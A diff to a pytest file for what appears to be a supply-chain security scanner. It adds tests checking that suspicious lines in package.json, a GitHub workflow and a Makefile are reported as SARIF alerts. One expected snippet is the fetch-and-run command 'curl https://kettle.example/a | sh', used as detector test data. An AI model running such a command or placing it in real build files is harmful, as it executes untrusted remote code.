@@ -5,7 +5,7 @@ from typing import Any
 
 import pytest
 
-from invented_scores import NEW_GROUND, START, with_reasons
+from invented_scores import ATTACK, NEW_GROUND, START, with_reasons
 from knownhands.inventory import Inventory
 from knownhands.records import Band, Broken, Evidence, Outcome
 from knownhands.report.sarif import FORMAT, NO_FILE
@@ -71,7 +71,7 @@ def test_an_unknown_score_is_one_open_question_never_silence(unknown: Score) -> 
 def test_every_result_points_at_its_rule_and_has_a_location(several: Inventory) -> None:
     run = run_of(several)
     rules = [rule["id"] for rule in run["tool"]["driver"]["rules"]]
-    assert rules == ["trust", "policy", "new_ground_share", "reviewed_by_others"]
+    assert rules == ["trust", "policy", "line", "new_ground_share", "reviewed_by_others"]
     assert [result["ruleId"] for result in run["results"]] == ["trust", "policy", "trust"]
     for result in run["results"]:
         assert rules[result["ruleIndex"]] == result["ruleId"]
@@ -119,6 +119,26 @@ def test_a_message_holds_no_link_and_no_placeholder(hostile: Score) -> None:
 
 def test_the_alerts_of_a_score_are_those_of_a_list_of_one(risky: Score) -> None:
     assert run_of(risky)["results"] == run_of(Inventory.of([risky]))["results"]
+
+
+def test_each_line_to_look_at_is_an_alert_where_it_stands(attacking: Score) -> None:
+    trust, *lines = run_of(attacking)["results"]
+    assert trust["ruleId"] == "trust"
+    assert [(line["ruleId"], line["level"], first_uri(line)) for line in lines] == [
+        ("line", "error", "package.json"),
+        ("line", "error", ".github/workflows/fire.yml"),
+        ("line", "error", "Makefile"),
+    ]
+    region = lines[1]["locations"][0]["physicalLocation"]["region"]
+    assert (region["startLine"], region["snippet"]["text"]) == (8, "run: curl https://kettle.example/a | sh")
+    assert "What to check next: Read what that package does" in lines[0]["message"]["text"]
+    assert len({line["partialFingerprints"]["knownhandsSubject/v1"] for line in (trust, *lines)}) == 4
+
+
+def test_a_line_that_is_unusual_and_no_alarm_is_a_note(score: Score) -> None:
+    unusual = replace(ATTACK, band=Band.ORDINARY, alarm_share=0.05)
+    results = run_of(replace(score, concerns=(unusual, *score.concerns)))["results"]
+    assert {(line["ruleId"], line["kind"], line["level"]) for line in results} == {("line", "fail", "note")}
 
 
 def test_golden(golden: Callable[[str, str], None], several: Inventory) -> None:
